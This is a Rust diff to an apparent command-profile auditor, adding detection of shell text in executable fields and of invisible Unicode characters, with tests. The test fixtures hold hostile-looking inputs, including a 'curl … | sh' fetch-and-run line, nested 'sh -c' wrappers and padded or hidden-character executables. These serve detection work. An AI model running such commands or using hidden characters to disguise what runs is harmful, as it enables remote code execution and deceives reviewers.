@@ -56,9 +56,26 @@ fn located_hits<'c>(ctx: &'c Ctx<'_>, kind: HitKind) -> impl Iterator<Item = Loc
 fn analyze_all(ctx: &Ctx<'_>) -> Vec<LocatedHit> {
     let mut out = Vec::new();
     for (ptr, c) in ctx.profile.commands() {
-        if let Some(words) = argv(c) {
+        if let Some(mut words) = argv(c) {
+            // A padded executable (`" python"`) runs nothing as written, but
+            // a runner that trims it runs the program: walk that.
+            let exe = c
+                .executable
+                .as_deref()
+                .unwrap_or_default()
+                .trim_matches(crate::sanitize::is_invisible);
+            if let Some(w) = words.first_mut() {
+                *w = exe;
+            }
             for h in shell::analyze_words(&words).hits {
                 out.push((word_pointer(&ptr, h.index), "arguments", h));
+            }
+            // Whitespace or shell syntax in the executable: shell text a
+            // runner may hand to a shell, or a strange path. Walk it as text.
+            if holds_shell_text(exe) {
+                for h in shell::analyze_script(exe).hits {
+                    out.push((format!("{ptr}/executable"), "shell text", h));
+                }
             }
         }
         if let Some(text) = c.shell.as_deref() {
@@ -68,6 +85,12 @@ fn analyze_all(ctx: &Ctx<'_>) -> Vec<LocatedHit> {
         }
     }
     out
+}
+
+/// Whether an executable holds whitespace or a character a shell acts on.
+fn holds_shell_text(exe: &str) -> bool {
+    exe.chars()
+        .any(|ch| ch.is_whitespace() || ";|&$`<>()'\"*?".contains(ch))
 }
 
 /// Report every hit of one kind. Identical hits at one pointer (the same
@@ -357,6 +380,27 @@ fn check_malformed(ctx: &Ctx<'_>, e: &mut Emitter) {
             }
         }
         let words = argv(c).unwrap_or_default();
+        // Bidi controls, zero-width and tag characters, in every word and
+        // in shell text; a word with a control character is reported below.
+        let shell_text = c
+            .shell
+            .as_deref()
+            .map(|t| (format!("{ptr}/shell"), t, false));
+        let words_at = words.iter().enumerate().map(|(i, w)| {
+            let control = w
+                .chars()
+                .any(|ch| ch.is_control() && !matches!(ch, '\n' | '\r' | '\t'));
+            (word_pointer(&ptr, i), *w, control)
+        });
+        for (p, w, control) in words_at.chain(shell_text) {
+            if !control && w.chars().any(crate::sanitize::is_hidden_in_word) {
+                e.emit(
+                    p,
+                    "contains an invisible character (a bidi control, zero-width or tag character) that makes it read differently from what runs",
+                )
+                .evidence("problem", "invisible-character");
+            }
+        }
         for (i, w) in words.iter().enumerate() {
             if w.contains('\0') {
                 // What the audit read is not what the program receives.
@@ -449,6 +493,170 @@ mod tests {
             [("CMD002", Severity::High, "/command/shell".to_string())]
         );
         assert_eq!(findings(WORKSHOP_PROFILE_FIXED), []);
+    }
+
+    /// Probe B R02/R03: a wrapper the table knows (`tini --`, `uv run`)
+    /// does not hide the shell or the interpreter it runs.
+    #[test]
+    fn wrappers_do_not_hide_what_runs() {
+        for (command, rule, pointer) in [
+            (
+                r#"{"executable": "tini", "arguments": ["--", "bash", "-c", "id"]}"#,
+                "CMD003",
+                "/command/arguments/2",
+            ),
+            (
+                r#"{"executable": "uv", "arguments": ["run", "python", "-c", "import payload"]}"#,
+                "CMD005",
+                "/command/arguments/2",
+            ),
+            (
+                r#"{"executable": "script", "arguments": ["-q", "-c", "id", "/dev/null"]}"#,
+                "CMD003",
+                "/command/arguments/2",
+            ),
+            (
+                r#"{"executable": "tini", "arguments": ["--frob", "python", "t.py"]}"#,
+                "CMD005",
+                "/command/arguments/0",
+            ),
+        ] {
+            let f = findings(&with_command(command));
+            assert!(
+                f.contains(&(rule, Severity::High, pointer.to_string())),
+                "{command}: {f:?}"
+            );
+        }
+    }
+
+    /// Probe B R04, item 2: past the walk's depth bound the command still
+    /// blocks; past the dependency rules' `sh -c` bound (fetch.rs,
+    /// `MAX_NESTING`), every `sh -c` level is CMD003 high already.
+    #[test]
+    fn depth_limits_block() {
+        let envs = ["\"env\""; 12].join(", ");
+        let f = findings(&with_command(&format!(
+            r#"{{"executable": "env", "arguments": [{envs}, "python", "-c", "import payload"]}}"#
+        )));
+        assert!(
+            f.iter()
+                .any(|(r, s, _)| *r == "CMD005" && *s == Severity::High),
+            "{f:?}"
+        );
+        let f = findings(&with_command(
+            r#"{"executable": "sh", "arguments": ["-c", "sh -c 'sh -c \"sh -c \\\"sh -c pip\\\"\"'"]}"#,
+        ));
+        assert!(
+            f.iter()
+                .any(|(r, s, _)| *r == "CMD003" && *s == Severity::High),
+            "{f:?}"
+        );
+    }
+
+    /// Probe B R17/R23, item 3: an `executable` that holds shell text, or
+    /// is padded with whitespace, is walked for what it runs.
+    #[test]
+    fn executable_holding_shell_text_is_walked() {
+        let rows = [
+            (
+                r#"{"executable": "python -c 'import payload'"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "sh -c id"}"#,
+                Some(("CMD003", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "python\t-c\tx"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "curl -s x.example | sh"}"#,
+                Some(("CMD003", "/command/executable")),
+            ),
+            (
+                r#"{"executable": "env python -c x"}"#,
+                Some(("CMD005", "/command/executable")),
+            ),
+            (
+                r#"{"executable": " python", "arguments": ["-c", "x"]}"#,
+                Some(("CMD005", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "python ", "arguments": ["-c", "x"]}"#,
+                Some(("CMD005", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "\u00a0bash", "arguments": ["-c", "x"]}"#,
+                Some(("CMD003", "/command/arguments/0")),
+            ),
+            (
+                r#"{"executable": "/opt/my tool/run", "arguments": ["t"]}"#,
+                None,
+            ),
+        ];
+        for (command, want) in rows {
+            let f = findings(&with_command(command));
+            let blocking: Vec<_> = f
+                .iter()
+                .filter(|(r, _, _)| matches!(*r, "CMD003" | "CMD005"))
+                .map(|(r, s, p)| (*r, *s, p.as_str()))
+                .collect();
+            match want {
+                Some((rule, pointer)) => assert!(
+                    blocking.contains(&(rule, Severity::High, pointer)),
+                    "{command}: {f:?}"
+                ),
+                None => assert_eq!(blocking, [], "{command}"),
+            }
+        }
+    }
+
+    /// Probe B R14, item 5: every bidi control, zero-width and tag
+    /// character in a word (and in shell text) is CMD007; plain text,
+    /// spaces, tabs and accents are not.
+    #[test]
+    fn invisible_characters_are_reported() {
+        let ranges = [
+            ('\u{202A}', '\u{202E}'),
+            ('\u{2066}', '\u{2069}'),
+            ('\u{200B}', '\u{200F}'),
+            ('\u{2060}', '\u{2064}'),
+            ('\u{FEFF}', '\u{FEFF}'),
+            ('\u{00AD}', '\u{00AD}'),
+            ('\u{180E}', '\u{180E}'),
+            ('\u{E0000}', '\u{E007F}'),
+        ];
+        let mut chars: Vec<char> = ranges.iter().flat_map(|&(a, b)| a..=b).collect();
+        chars.retain(|ch| !ch.is_whitespace());
+        assert_eq!(chars.len(), 150);
+        let cmd007 = |word: &str, field: &str| {
+            let command = if field == "shell" {
+                format!(r#"{{"shell": "pytest {}"}}"#, word)
+            } else {
+                format!(
+                    r#"{{"executable": "python", "arguments": ["-m", "pytest", "{}"]}}"#,
+                    word
+                )
+            };
+            findings(&with_command(&command))
+                .into_iter()
+                .filter(|(r, _, _)| *r == "CMD007")
+                .count()
+        };
+        for ch in chars {
+            let word = format!("tests/test_{ch}x.py");
+            assert_eq!(cmd007(&word, "arguments"), 1, "U+{:04X}", ch as u32);
+            assert_eq!(
+                cmd007(&word, "shell"),
+                1,
+                "U+{:04X} in shell text",
+                ch as u32
+            );
+        }
+        for word in ["tests/test_date.py", "t\u{e9}st", "a b", "cafe\u{301}"] {
+            assert_eq!(cmd007(word, "arguments"), 0, "{word}");
+        }
     }
 
     #[test]
